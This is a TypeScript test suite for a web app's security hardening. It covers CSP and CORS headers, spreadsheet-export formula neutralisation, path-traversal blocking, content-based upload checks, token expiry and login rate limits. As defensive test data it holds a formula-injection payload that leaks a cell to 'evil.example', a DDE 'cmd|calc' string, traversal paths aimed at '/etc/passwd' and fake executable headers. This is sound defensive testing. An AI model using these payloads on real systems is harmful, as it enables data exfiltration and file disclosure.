/**
 * HTTP hardening as a caller sees it: security headers with a CSP that admits the configured remote
 * origins, CORS only for configured origins, downloads that cannot be steered out of their folders,
 * uploads judged by content, tokens that expire after TOKEN_TTL_DAYS, and rate-limited sign-in and
 * password reset.
 * @see docs/security.md "Transport and headers"; plugins/external/{helmet,cors,rate-limit}.ts
 */
import fs from 'node:fs';
import path from 'node:path';
import { randomUUID } from 'node:crypto';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import ExcelJS from 'exceljs';
import { and, eq } from 'drizzle-orm';
import { access_tokens, files, orders, users } from '../../src/db/schema/index.js';
import { exportsDir } from '../../src/lib/table/exportTable.js';
import { hashToken } from '../../src/core/auth/tokens.js';
import { socketOrigin } from '../../src/lib/security-headers.js';
import { HTML_FIRST_SCRIPT_SOURCE } from '../../src/lib/html-first-script.js';
import { createTestApp, type TestApp } from '../helpers/test-app.js';
import { formData, PDF, PNG_1PX } from '../helpers/fixtures.js';

const CDN = 'https://cdn.example.com';
const SECRET = 'TOP-SECRET-CONTENT';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ remoteOrigins: [CDN], corsOrigins: ['https://app.example.com'], tokenTtlDays: 2 });
  // A built shell and remote to serve, and secrets beside them that must never be reachable.
  const root = t.config.staticRoot;
  fs.mkdirSync(path.join(root, 'shell', 'dist'), { recursive: true });
  fs.mkdirSync(path.join(root, 'mf-auth', 'dist'), { recursive: true });
  fs.writeFileSync(path.join(root, 'shell', 'dist', 'index.html'), '<!doctype html><title>Scriptorium</title>');
  fs.writeFileSync(path.join(root, 'mf-auth', 'dist', 'remoteEntry.js'), 'export const remote = 1;');
  fs.writeFileSync(path.join(root, 'secret.txt'), SECRET);
  fs.writeFileSync(path.join(root, 'mf-auth', 'secret.txt'), SECRET);
  fs.mkdirSync(exportsDir(t.config.dataDir), { recursive: true });
  fs.writeFileSync(path.join(t.config.dataDir, 'secret.txt'), SECRET);
});
afterAll(async () => t?.close());
afterEach(() => vi.useRealTimers());

const cspOf = (headers: Record<string, unknown>) =>
  Object.fromEntries(
    String(headers['content-security-policy'])
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .filter((d) => d[0])
      .map(([k, ...v]) => [k, v]),
  );

describe('security headers', () => {
  it('sends a CSP whose scripts come only from this origin and REMOTE_ORIGINS (and the one inline script, by its hash), on the API and the app', async () => {
    for (const url of ['/api/health', '/', '/orders']) {
      const res = await t.request({ method: 'GET', url });
      const csp = cspOf(res.headers);
      expect(csp['script-src'], url).toEqual(["'self'", CDN, HTML_FIRST_SCRIPT_SOURCE]);
      // Sockets to the app's own origin only (PUBLIC_URL as ws:), not `ws: wss:` (any host).
      expect(csp['connect-src'], url).toEqual(["'self'", socketOrigin(t.config.publicUrl), CDN]);
      expect(csp['default-src']).toEqual(["'self'"]);
      expect(csp['object-src']).toEqual(["'none'"]);
      expect(csp['frame-ancestors']).toEqual(["'self'"]);
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['x-frame-options']).toBe('SAMEORIGIN');
      expect(res.headers['referrer-policy']).toBe('no-referrer');
      expect(res.headers['x-powered-by']).toBeUndefined();
    }
  });

  it('sends no HSTS over plain HTTP, nor for an X-Forwarded-Proto no trusted proxy vouches for', async () => {
    // HTTPS cases: test/plugins/external/helmet.test.ts.
    for (const headers of [{}, { 'x-forwarded-proto': 'https' }]) {
      const res = await t.request({ method: 'GET', url: '/api/health', headers });
      expect(res.headers['strict-transport-security']).toBeUndefined();
    }
  });
});

describe('exports cannot carry formulas', () => {
  it('neutralises a client named =HYPERLINK(…) in CSV and XLSX exports', async () => {
    const admin = await t.login('admin@example.com');
    const evil = '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")';
    // (Names are trimmed when saved, so tab and CR first are tried in test/lib/table/exportTable.test.ts.)
    const names = [evil, '+1+cmd|calc', '-2+3', '@SUM(1)', 'Plain - name'];
    for (const [i, name] of names.entries()) {
      const res = await t.request({
        method: 'POST',
        url: '/api/users',
        token: admin,
        payload: { name, email: `formula-${i}-${randomUUID()}@example.com`, password: 'password1', role: 'client' },
      });
      expect(res.statusCode, res.body).toBe(200);
    }
    const exported = async (format: 'csv' | 'xlsx') => {
      const res = await t.request({
        method: 'POST',
        url: '/api/users/list/clients',
        token: admin,
        payload: { export: 1, format, titles: ['name'], filter_value: 'formula-' },
      });
      return (await t.request({ method: 'GET', url: `/api/external-download?file=${res.json().file}` })).rawPayload;
    };
    const expected = ["'" + evil, "'+1+cmd|calc", "'-2+3", "'@SUM(1)", 'Plain - name'];
    const csv = (await exported('csv')).toString('utf8');
    for (const name of expected) expect(csv).toContain(name.includes('"') ? `"${name.replace(/"/g, '""')}"` : name);
    expect(csv).not.toMatch(/^[=+\-@]/m);

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await exported('xlsx')) as unknown as ExcelJS.Buffer);
    const cells = workbook.worksheets[0].getColumn(1).values.slice(2).map(String);
    expect(cells.sort()).toEqual([...expected].sort());
  });
});

describe('CORS', () => {
  it('answers a configured origin and gives a foreign one no allow-origin, also on preflight', async () => {
    const ok = await t.request({ method: 'GET', url: '/api/config', headers: { origin: 'https://app.example.com' } });
    expect(ok.headers['access-control-allow-origin']).toBe('https://app.example.com');
    const evil = await t.request({ method: 'GET', url: '/api/config', headers: { origin: 'https://evil.example' } });
    expect(evil.headers['access-control-allow-origin']).toBeUndefined();
    const preflight = await t.request({
      method: 'OPTIONS',
      url: '/api/auth/login',
      headers: {
        origin: 'https://evil.example',
        'access-control-request-method': 'POST',
        'access-control-request-headers': 'authorization,content-type',
      },
    });
    expect(preflight.headers['access-control-allow-origin']).toBeUndefined();
    const allowed = await t.request({
      method: 'OPTIONS',
      url: '/api/auth/login',
      headers: { origin: 'https://app.example.com', 'access-control-request-method': 'POST' },
    });
    expect(allowed.headers['access-control-allow-origin']).toBe('https://app.example.com');
  });

  it('lets any origin load remote bundles (public static files)', async () => {
    const res = await t.request({
      method: 'GET',
      url: '/remotes/mf-auth/remoteEntry.js',
      headers: { origin: 'https://evil.example' },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['access-control-allow-origin']).toBe('*');
  });
});

describe('downloads are immune to path traversal', () => {
  const neverTheSecret = (res: { statusCode: number; body: string }, what: string) => {
    expect(res.body, what).not.toContain(SECRET);
    expect(res.statusCode, what).toBeGreaterThanOrEqual(400);
    expect(res.statusCode, what).toBeLessThan(500);
  };

  it('GET /api/external-download serves only export names of its own shape', async () => {
    for (const file of [
      '../secret.txt',
      '..%2Fsecret.txt',
      '../../secret.txt',
      `${randomUUID()}.csv/../../secret.txt`,
      '/etc/passwd',
      '....//secret.txt',
      '%2e%2e%2fsecret.txt',
    ]) {
      neverTheSecret(await t.request({ method: 'GET', url: `/api/external-download?file=${file}` }), file);
    }
    const missing = await t.request({ method: 'GET', url: `/api/external-download?file=${randomUUID()}.csv` });
    expect([missing.statusCode, missing.json()]).toEqual([404, { message: 'Export not found' }]);
  });

  it('GET /api/files/:id/download refuses crafted ids, and a tampered storage key never escapes storage', async () => {
    const admin = await t.login('admin@example.com');
    for (const id of ['..%2f..%2fsecret.txt', '%2e%2e', '1%2f..%2f..%2fsecret.txt', '..']) {
      neverTheSecret(await t.request({ method: 'GET', url: `/api/files/${id}/download`, token: admin }), id);
    }
    const [order] = await t.app.db.select({ id: orders.id }).from(orders).limit(1);
    const [row] = await t.app.db
      .insert(files)
      .values({
        order_id: order.id,
        user_id: 1,
        name: 'x.txt',
        path: '../secret.txt',
        mime: 'text/plain',
        size: SECRET.length,
        allow_client: true,
      })
      .returning();
    neverTheSecret(
      await t.request({ method: 'GET', url: `/api/files/${row.id}/download`, token: admin }),
      'tampered key',
    );
  });

  it('static /remotes and app paths never leave their dist folders', async () => {
    for (const url of [
      '/remotes/mf-auth/..%2fsecret.txt',
      '/remotes/mf-auth/..%2f..%2fsecret.txt',
      '/remotes/mf-auth/%2e%2e/%2e%2e/secret.txt',
      '/remotes/..%2f..%2fsecret.txt',
      '/remotes/mf-auth/....//....//secret.txt',
      '/remotes/mf-auth/%2e%2e%5c%2e%2e%5csecret.txt',
      '/..%2fsecret.txt',
      '/%2e%2e/%2e%2e/secret.txt',
    ]) {
      const res = await t.request({ method: 'GET', url });
      expect(res.body, url).not.toContain(SECRET);
      expect(res.statusCode, url).toBeLessThan(500);
    }
  });
});

const EXE = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), Buffer.from('PE\0\0'), Buffer.alloc(200, 0x90)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)]);

describe('uploads are judged by content, not by name', () => {
  it('refuses an executable renamed to .pdf or .docx on an order, and stores nothing', async () => {
    const token = await t.login('client@example.com');
    const [client] = await t.app.db.select({ id: users.id }).from(users).where(eq(users.email, 'client@example.com'));
    const [order] = await t.app.db
      .select({ id: orders.id })
      .from(orders)
      .where(and(eq(orders.user_id, client.id), eq(orders.status, 'in_progress')));
    const before = await t.app.db.select().from(files).where(eq(files.order_id, order.id));
    for (const [name, data] of [
      ['essay.pdf', EXE],
      ['essay.docx', ELF],
      ['setup.exe', EXE],
    ] as const) {
      const res = await t.request({
        method: 'POST',
        url: `/api/orders/${order.id}/files`,
        token,
        payload: formData({}, [{ field: 'file', name, content: data, type: 'application/pdf' }]),
      });
      expect(res.statusCode, name).toBe(422);
      expect(res.json().errors.file[0], name).toMatch(/not allowed|not what its name says/);
    }
    expect(await t.app.db.select().from(files).where(eq(files.order_id, order.id))).toHaveLength(before.length);
    const pdf = await t.request({
      method: 'POST',
      url: `/api/orders/${order.id}/files`,
      token,
      payload: formData({}, [{ field: 'file', name: 'essay.pdf', content: PDF, type: 'application/pdf' }]),
    });
    expect(pdf.statusCode).toBe(200);
  });

  it('refuses an executable named like a picture as the profile picture', async () => {
    const token = await t.login('writer@example.com');
    const res = await t.request({
      method: 'POST',
      url: '/api/auth/profile-picture',
      token,
      payload: formData({}, [{ field: 'profile_picture', name: 'me.png', content: EXE, type: 'application/pdf' }]),
    });
    expect([res.statusCode, res.json().errors]).toEqual([
      422,
      { profile_picture: ['The profile picture must be a JPEG, PNG, GIF or WebP image'] },
    ]);
    const ok = await t.request({
      method: 'POST',
      url: '/api/auth/profile-picture',
      token,
      payload: formData({}, [{ field: 'profile_picture', name: 'me.exe', content: PNG_1PX, type: 'application/pdf' }]),
    });
    expect(ok.statusCode).toBe(200);
  });
});

describe('tokens expire', () => {
  it('issues tokens valid TOKEN_TTL_DAYS and refuses them afterwards with 401', async () => {
    const token = await t.login('client@example.com');
    const [row] = await t.app.db
      .select()
      .from(access_tokens)
      .where(eq(access_tokens.token_hash, hashToken(token)));
    const days = (row.expires_at.getTime() - Date.now()) / 86_400_000;
    expect(days).toBeGreaterThan(1.99);
    expect(days).toBeLessThanOrEqual(2);
    expect((await t.request({ method: 'GET', url: '/api/auth/user', token })).statusCode).toBe(200);

    vi.useFakeTimers({ toFake: ['Date'] });
    vi.setSystemTime(Date.now() + 2 * 86_400_000 - 60_000);
    expect((await t.request({ method: 'GET', url: '/api/auth/user', token })).statusCode).toBe(200);
    vi.setSystemTime(Date.now() + 2 * 60_000);
    const expired = await t.request({ method: 'GET', url: '/api/auth/user', token });
    expect([expired.statusCode, expired.json()]).toEqual([401, { message: 'Unauthenticated.' }]);
  });
});

describe('rate limits on sign-in and password reset', () => {
  let limited: TestApp;
  beforeAll(async () => {
    limited = await createTestApp({ loginRateLimit: 3 });
  });
  afterAll(async () => limited?.close());

  const attempts: [string, Record<string, string>][] = [
    ['/api/auth/login', { email: 'client@example.com', password: 'wrong-password' }],
    ['/api/auth/forgot-password', { email: 'client@example.com' }],
    [
      '/api/auth/reset-password',
      {
        email: 'client@example.com',
        token: 'not-a-token',
        password: 'new-password-1',
        password_confirmation: 'new-password-1',
      },
    ],
    ['/api/auth/register', { name: 'X', email: 'not-an-email', password: 'x' }],
  ];
  for (const [url, payload] of attempts) {
    it(`answers 429 {message} on ${url} after LOGIN_RATE_LIMIT attempts a minute`, async () => {
      const statuses: number[] = [];
      for (let i = 0; i < 3; i++) statuses.push((await limited.request({ method: 'POST', url, payload })).statusCode);
      expect(statuses.every((s) => s !== 429)).toBe(true);
      const refused = await limited.request({ method: 'POST', url, payload });
      expect(refused.statusCode).toBe(429);
      expect(refused.json().message).toMatch(/^Too many attempts\. Try again in \d+ seconds\.$/);
      // Another address still gets in: the limit is per client, not global.
      const other = await limited.request({ method: 'POST', url, payload, remoteAddress: '10.9.8.7' });
      expect(other.statusCode).not.toBe(429);
    });
  }
});
